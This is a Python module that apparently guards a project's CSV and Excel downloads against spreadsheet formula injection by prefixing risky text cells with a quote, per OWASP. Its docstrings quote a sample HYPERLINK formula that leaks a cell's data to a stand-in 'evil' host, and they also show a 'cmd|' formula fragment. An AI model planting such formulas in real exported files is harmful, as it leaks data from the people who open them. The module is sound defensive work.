"""Text cells made safe for spreadsheets (CSV and Excel injection, OWASP).

A spreadsheet treats a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula: a programme or network name such as
``=HYPERLINK("http://evil/?leak="&A1,"Click")`` would run when an analyst opens a download.
OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell
with a single quote, which every spreadsheet shows as text. Numbers are left alone: ``-3`` as
a number is not a formula, and only text cells are rewritten.

Used by every file this project writes for people to open: the dashboard's CSV and Excel
downloads, ``intl-kpi kpis`` and the ETL's rejects reports.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A separator a spreadsheet may split a CSV line on (Excel in a Dutch locale splits on ";",
# and a "# key: value" data-sheet line is not quoted), followed by a formula trigger: the
# piece after it would become a cell of its own that starts a formula.
_SPLIT_FORMULA = re.compile(r"([,;\t\r\n|]\s*)([=+\-@])")


def neutralise(value: Any) -> Any:
    """``value`` made safe to open in a spreadsheet when it is text: a leading ``'`` when it
    starts like a formula, and a ``'`` before any formula that a separator inside it would
    turn into a cell of its own (``Law;=cmd|...`` becomes ``Law;'=cmd|...``)."""
    if not isinstance(value, str):
        return value
    value = _SPLIT_FORMULA.sub(r"\1'\2", value)
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and column name) neutralised."""
    safe = frame.copy()
    for column in safe.columns:
        values = safe[column]
        if values.dtype == object or pd.api.types.is_string_dtype(values):
            safe[column] = values.map(neutralise)
    safe.columns = [neutralise(column) for column in safe.columns]
    return safe
